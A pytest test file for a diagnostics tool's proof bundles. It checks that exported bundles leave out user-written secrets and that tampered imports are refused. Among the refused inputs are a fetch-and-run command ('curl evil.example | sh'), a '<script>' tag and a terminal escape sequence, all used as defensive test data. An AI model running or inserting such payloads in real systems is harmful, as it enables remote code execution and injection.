"""A proof goes with a bundle: its outcome and numbers, and nothing that a program or a person wrote."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from forensics.bundle.proofs import AT_HOME, received, sent
from forensics.store import proofs
from tests.support import command
from tests.support.command import forensics

SECRET = "/home/ann/secret/train.py says: Why is the sky blue?"
STILL = "trainable tensors that never moved"


def document(run: str) -> dict[str, Any]:
    harm = {"what": STILL, "unit": "tensors", "as_it_was": [3, 3], "cured": [0, 0]}
    proved = {
        "ids": ["learning-rate-zero"], "outcome": "proved", "harm": [harm], "also_changed": [SECRET],
        "why": SECRET, "did": {"learning-rate-zero": SECRET},
    }  # fmt: skip
    unproved = {**proved, "ids": ["gradients-zero"], "outcome": "impossible", "harm": []}
    named = {**harm, "what": SECRET, "as_recorded": 3}
    return {
        "schema": 1, "run": run, "repeats": 2, "steps": 3, "repeatable": True, "agreement": SECRET,
        "patch": SECRET,
        "harm": [{"what": STILL, "unit": "tensors", "as_recorded": 3, "as_it_was": [3, 3]}, named],
        "cures": [proved, unproved, {**proved, "ids": [SECRET]}],
    }  # fmt: skip


def test_what_is_sent() -> None:
    told = sent(document("run"))
    assert "secret" not in json.dumps(told) and "sky" not in json.dumps(told)
    assert [each["outcome"] for each in told["cures"]] == ["proved", "impossible"]
    assert told["cures"][0]["harm"] == document("run")["cures"][0]["harm"]
    assert told["cures"][1]["why"] == AT_HOME
    assert [each["as_recorded"] for each in told["harm"]] == [3]


def test_what_comes_in() -> None:
    told = sent(document("run"))
    assert received({"schema": 1, "runs": {"run": told}}, ["run"]) == {"run": {**told, "claimed": True}}


def changed(*path: Any, to: Any) -> dict[str, Any]:
    """What is sent of the document, with one value another."""
    document_ = json.loads(json.dumps({"schema": 1, "runs": {"run": sent(document("run"))}}))
    place = document_
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = to
    return document_


CURES = ("runs", "run", "cures")


@pytest.mark.parametrize(
    "value",
    [
        None,
        [],
        {"schema": 1, "runs": []},
        changed("schema", to=2),
        changed("runs", "other", to=sent(document("other"))),
        changed("runs", "run", to=None),
        changed("runs", "run", "run", to="other"),
        changed("runs", "run", "patch", to="--- a/train.py"),
        changed("runs", "run", "agreement", to=SECRET),
        changed("runs", "run", "claimed", to=False),
        changed("runs", "run", "harm", 0, "what", to="\x1b]0;evil"),
        changed("runs", "run", "harm", 0, "as_it_was", to=[1] * 2000),
        changed(*CURES, to=7),
        changed(*CURES, 0, to=[]),
        changed(*CURES, 0, "ids", to=["<script>"]),
        changed(*CURES, 0, "outcome", to="certain"),
        changed(*CURES, 0, "outcome", to=["proved"]),
        changed(*CURES, 0, "why", to="curl evil.example | sh"),
        changed(*CURES, 0, "did", to={"learning-rate-zero": SECRET}),
        changed(*CURES, 0, "harm", 0, "cured", to=[]),
        changed(*CURES, 0, "harm", 0, "cured", to=[-1, 0]),
        changed(*CURES, 0, "harm", 0, "cured", to=[None]),
        changed(*CURES, 0, "harm", 0, "cured", to=[1 << 60]),
        changed(*CURES, 0, "harm", 0, "as_it_was", to="33"),
    ],
    ids=str,
)
def test_what_none_of_ours_wrote_is_refused(value: Any) -> None:
    with pytest.raises(ValueError, match=r"ours|bundle"):
        received(value, ["run"])


@pytest.mark.long
def test_it_goes_with_the_bundle(tmp_path: Path) -> None:
    command.write(tmp_path, command.LOOP.replace("optim.SGD(0.1)", "optim.SGD(0.0)"))
    done = forensics(tmp_path, "capture", "--name", "run", "--", "python", "train.py")
    proofs.remember(done.store, "run", document("run"))
    assert forensics(tmp_path, "bundle", "run", "-o", "bug.zip").status == 0
    with zipfile.ZipFile(tmp_path / "bug.zip") as zipped:
        texts = {name: zipped.read(name) for name in zipped.namelist()}
    assert not [name for name, content in texts.items() if b"secret" in content or b"sky blue" in content]
    first = json.loads(texts["findings.json"])["runs"]["run"]["findings"][0]
    assert (first["id"], first["confidence"]) == ("learning-rate-zero", "proved")
    assert "3 as it was, 0 without it" in first["proof"]
    assert json.loads(texts["proof.json"])["runs"]["run"]["cures"][0]["outcome"] == "proved"

    told = forensics(tmp_path, "open", "bug.zip", "--as", "theirs", "--store", "elsewhere")
    assert told.status == 0, told.err
    for words in (["diagnose", "theirs", "--store", "elsewhere"], ["diagnose", "bug.zip"]):
        said = " ".join(forensics(tmp_path, *words).out.split())
        assert "proved by who sent it, not run here: trainable tensors that never moved: 3 as it was" in said
    first = json.loads(forensics(tmp_path, "diagnose", "theirs", "--store", "elsewhere", "--json").out)
    assert [f["confidence"] for f in first["findings"] if f["id"] == "learning-rate-zero"] == ["certain"]
    said = " ".join(forensics(tmp_path, "show", "theirs", "--store", "elsewhere").out.split())
    assert "learning-rate-zero proved by who sent it, not run here" in said
    forensics(tmp_path, "report", "theirs", "--store", "elsewhere", "-o", "page.html")
    page = (tmp_path / "page.html").read_text()
    assert "Proved by who sent it, on their machine; nothing of it was run here." in page
    assert "roved by who sent it, not run here" in page
    refused = forensics(tmp_path, "prove", "theirs", "--store", "elsewhere")
    assert refused.status == 2 and "came from elsewhere" in refused.err
